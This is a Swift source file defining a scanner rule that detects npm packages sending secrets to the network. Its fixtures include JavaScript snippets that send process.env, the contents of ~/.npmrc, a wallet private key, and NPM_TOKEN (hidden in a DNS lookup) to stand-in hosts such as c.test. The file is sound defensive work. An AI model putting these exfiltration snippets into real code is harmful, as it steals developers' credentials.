// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Keys, the whole environment or what somebody types get to the network: followed through the code, over files.
package struct SendsSecrets: Rule {
    package init() {}

    package let card = RuleCard(
        id: "sends-secrets", kind: .content, title: "Sends secrets away", severity: .critical, confidence: .high, status: .stable,
        revision: 1, group: "behaviour",
        rationale:
            "Read, encode, send is the chain of nearly every theft. It needs no install script: the code of a library that is loaded does as well.",
        knownFalseAlarms: [
            "A client that sends its own service's key to its own service, where neither name tells that they belong together.",
            "A crash reporter that sends the environment and says so.",
        ],
        references: ["https://blog.npmjs.org/post/163723642530/crossenv-malware-on-the-npm-registry"],
        fires: [
            RuleSample(
                "when it is loaded",
                .sample([
                    "index.js":
                        "const https = require('https'); const r = https.request({host: 'c.test', method: 'POST'}); r.write(JSON.stringify(process.env)); r.end();"
                ])),
            RuleSample(
                "over three files",
                .sample([
                    "index.js": "require('./send')(require('./read')());",
                    "read.js":
                        "const fs = require('fs'), os = require('os'), path = require('path'); module.exports = () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
                    "send.js":
                        "module.exports = function (data) { fetch('https://c.test/in', {method: 'POST', body: Buffer.from(data).toString('base64')}); };",
                ])),
            RuleSample(
                "a private key, from a function of the library",
                .sample([
                    "index.js":
                        "export class Wallet { sign(privateKey) { fetch('https://node.test/log', {headers: {'x-id': btoa(privateKey)}}); return work(privateKey); } }"
                ])),
            RuleSample(
                "in the name that is looked up",
                .sample(["index.js": "require('dns').lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.c.test', () => {});"])),
        ],
        staysSilent: [
            RuleSample(
                "a client of the service whose key it is",
                .sample([
                    "index.js":
                        "exports.list = () => fetch('https://api.github.com/user', {headers: {authorization: process.env.GITHUB_TOKEN}});"
                ])),
            RuleSample(
                "a setting of its own",
                .sample(["index.js": "exports.get = () => fetch(process.env.API_URL + '/x', {headers: {'x-key': process.env.API_KEY}});"])),
            RuleSample(
                "a hash of a key, for a cache",
                .sample([
                    "index.js":
                        "const h = require('crypto').createHash('sha256').update(process.env.NPM_TOKEN).digest('hex'); fetch('https://c.test/' + h);"
                ])),
            RuleSample(
                "a child gets the environment",
                .sample([
                    "index.js":
                        "require('child_process').spawn('git', ['status'], {env: {...process.env, LANG: 'C'}}); fetch('https://a.test')"
                ])),
        ]
    )

    private static let wanted: Taint = Taint.secrets.union([.systemFile])

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let found = facts.flows(Self.wanted, into: .network, .dns).compactMap { flow in strength(flow, facts).map { (flow, $0) } }
        guard let (flow, strength) = found.max(by: { $0.1 < $1.1 }) else { return [] }
        let moment = facts.moment(of: flow.fact, in: flow.file)
        let hosts = facts.hosts(in: flow.file)
        let to = hosts.isEmpty ? "to the network" : "to \(PlainWords.list(hosts, limit: 2))"
        let what = PlainWords.list(flow.taint.intersection(Self.wanted).words, limit: 3)
        let ways = flow.taint.intersection([.encoded, .compressed, .encrypted]).words
        let how = ways.isEmpty ? "" : ", \(ways.joined(separator: " and ")),"
        var evidence = facts.evidence(flow, from: Self.wanted)
        for (other, _) in found.dropFirst().prefix(3) { evidence.append(facts.evidence(other.fact, in: other.file)) }
        return [
            card.finding(
                "\(facts.files[flow.file].path) sends \(what)\(how) \(to)\(moment.words)\(facts.gateWords(flow.fact))",
                strength: strength, evidence: evidence.reduce(into: []) { if !$0.contains($1) { $0.append($1) } },
                meaning:
                    "Take those secrets for known to others on every machine where it ran. Look for what else it did before you revoke them."
            )
        ]
    }

    /// From 0 to 1; `nil` for what programs do all day.
    private func strength(_ flow: Flow, _ facts: ReleaseFacts) -> Double? {
        guard flow.through.count <= 3 else { return nil }
        let taint = flow.taint
        let moment = facts.moment(of: flow.fact, in: flow.file)
        let hosts = facts.hosts(in: flow.file).filter { !facts.isOwn($0) }
        let isDisguised = flow.fact.isDisguised
        let isNamed = !hosts.isEmpty || flow.fact.kind == .dns
        // Where it goes is for others to say: a client.
        if !isNamed, !isDisguised, !(moment.mayBeByItself && flow.isNear) { return nil }
        var strength = 0.0
        if taint.contains(.wholeEnvironment) { strength += moment.mayBeByItself || isDisguised ? 0.75 : 0.15 }
        if taint.contains(.secretFile) || taint.contains(.systemFile) { strength += moment.mayBeByItself || isDisguised ? 0.8 : 0.2 }
        if taint.contains(.cloudMetadata) { strength += moment.mayBeByItself || isDisguised ? 0.75 : 0.3 }
        if !taint.isDisjoint(with: [.keyboard, .clipboard]) { strength += isNamed ? 0.4 : 0 }
        if taint.contains(.namedSecret) { strength += isNamed ? 0.9 : 0 }
        if taint.contains(.password) { strength += isNamed ? 0.35 : 0 }
        if taint.contains(.wallet) { strength += isNamed ? 0.1 : 0 }
        if taint.contains(.secretVariable) {
            let isOthers = !belongs(flow, hosts, facts)
            strength += isOthers && isNamed ? (moment.mayBeByItself || flow.fact.kind == .dns ? 0.6 : 0.05) : 0
        }
        guard strength > 0 else { return nil }
        if !isNamed { strength *= 0.4 }
        if flow.through.count == 3 { strength *= 0.7 }
        if flow.fact.kind == .dns { strength += 0.15 }
        if !taint.isDisjoint(with: [.encoded, .compressed, .encrypted]) { strength += 0.12 }
        if taint.contains(.hostIdentity) { strength += 0.08 }
        if isDisguised { strength += 0.4 }
        if moment == .install { strength += 0.2 }
        return strength
    }

    /// Whether a variable's name and the host's name share a word: `GITHUB_TOKEN` for `api.github.com`.
    private func belongs(_ flow: Flow, _ hosts: [String], _ facts: ReleaseFacts) -> Bool {
        var words: [Substring] = []
        for file in flow.through {
            for variable in facts.behaviour.files[file]?.variables ?? [] where SecretPlaces.isSecretVariable(variable) {
                words += variable.lowercased().split(separator: "_").filter { $0.utf8.count >= 2 && !Self.common.contains(String($0)) }
            }
        }
        // A name that is looked up belongs to whoever holds the zone.
        guard !words.isEmpty, flow.fact.kind != .dns else { return false }
        return hosts.isEmpty
            || hosts.allSatisfy { host in
                let others = Self.otherNames(host)
                return words.contains { word in others.contains { $0.contains(word) } }
            }
    }

    private static let common: Set<String> = ["token", "api", "key", "secret", "password", "access", "auth", "id"]

    /// A host, and the words by which its keys are called.
    private static func otherNames(_ host: String) -> [String] {
        for (part, names) in [
            ("amazonaws", ["aws"]), ("npmjs", ["npm", "node"]), ("github", ["gh", "github"]),
            ("googleapis", ["google", "gcp", "gemini", "firebase"]),
            ("anthropic", ["claude"]), ("openai", ["gpt"]), ("azure", ["az"]), ("atlassian", ["jira", "confluence"]),
            ("circleci", ["circle"]),
        ] where host.contains(part) {
            return [host] + names
        }
        return [host]
    }
}
